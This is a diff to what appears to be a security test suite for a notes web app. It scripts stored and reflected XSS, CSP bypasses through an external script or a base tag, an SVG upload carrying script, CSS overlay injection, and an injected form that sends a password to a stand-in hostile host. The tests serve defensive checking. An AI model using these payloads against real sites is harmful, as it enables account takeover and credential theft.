@@ -13,7 +13,8 @@ import (
 )
 
 // xss are scripts that reach a page by two holes of the notes app: the search, which
-// reflects, and the text of a note, which is stored.
+// reflects, and the text of a note, which is stored. They are carried out three times: with
+// all there is, with nothing but the CSP, and without it.
 func xss() []Attack {
 	const run = "window.owned=true"
 	return []Attack{
@@ -40,7 +41,15 @@ func reflected(name, payload string) Attack {
 
 func stored(name, payload string) Attack {
 	return Attack{Name: name, Gain: "a text runs a script as whoever reads it", Works: func(s *Scene) bool {
-		return s.owned(s.noteIn(payload))
+		p := s.Join()
+		tab := s.Tab()
+		s.Login(tab, p)
+		if said := s.sent(tab, "/notes/new", `{title: "bait", tag: "idea", body: `+strconv.Quote(payload)+`}`); said != "" {
+			s.Logf("refused: %.100s", said)
+			return false
+		}
+		browser.Do(s, tab, chromedp.Navigate(s.URL+"/"))
+		return s.owned(tab)
 	}}
 }
 
@@ -69,14 +78,15 @@ func (s *Scene) owned(tab context.Context) bool {
 }
 
 // csp are scripts and styles that the browser is told to get or to take from somewhere,
-// by markup that reached the page or by a file that the attacker put on the site.
+// by markup that reached the page or by a file that the attacker put on the site. What would
+// keep the markup from getting there is off.
 func csp() []Attack {
 	return []Attack{
-		{Name: "script of another site", Gain: "a text loads a script", Works: func(s *Scene) bool {
+		{Name: "script of another site", App: "unjudged", Gain: "a text loads a script", Works: func(s *Scene) bool {
 			hostile := s.Hostile(map[string]string{"/own.js": "window.owned=true"})
 			return s.owned(s.noteIn(`<script src="` + hostile + `/own.js"></script>`))
 		}},
-		{Name: "base of another site", Gain: "the page's own scripts come from the attacker", Works: func(s *Scene) bool {
+		{Name: "base of another site", App: "unjudged", Gain: "the page's own scripts come from the attacker", Works: func(s *Scene) bool {
 			hostile := s.Hostile(map[string]string{"/own.js": "window.owned=true"})
 			return s.owned(s.noteIn(`<base href="` + hostile + `/"><script src="own.js"></script>`))
 		}},
@@ -107,14 +117,14 @@ func csp() []Attack {
 		{Name: "uploaded picture with a script", App: "accepting", Gain: "a picture is a page of the site", Works: func(s *Scene) bool {
 			return s.uploadedAs(".svg", "picture", `<svg xmlns="http://www.w3.org/2000/svg"><script>window.owned=true</script></svg>`, "")
 		}},
-		{Name: "injected style sheet", Gain: "a text dresses the page up", Works: func(s *Scene) bool {
+		{Name: "injected style sheet", App: "unjudged", Gain: "a text dresses the page up", Works: func(s *Scene) bool {
 			return s.dressed(s.noteIn(`<style>body { --owned: yes }</style>`))
 		}},
-		{Name: "injected style", Gain: "a text lies over the page", Works: func(s *Scene) bool {
+		{Name: "injected style", App: "unjudged", Gain: "a text lies over the page", Works: func(s *Scene) bool {
 			tab := s.noteIn(`<b id="cover" style="position: fixed; inset: 0">log in again</b>`)
 			return browser.Get(s, tab, chromedp.Evaluate[bool](`getComputedStyle(document.getElementById("cover")).position === "fixed"`))
 		}},
-		{Name: "injected form", Gain: "what is typed into the page goes to another site", Works: func(s *Scene) bool {
+		{Name: "injected form", App: "unjudged", Gain: "what is typed into the page goes to another site", Works: func(s *Scene) bool {
 			hostile := s.Hostile(map[string]string{"/take": "thank you"})
 			tab := s.noteIn(`<form id="take" action="` + hostile + `/take"><input name="password" value="secret"><button>Log in again</button></form>`)
 			return s.sends(tab, hostile+"/take")
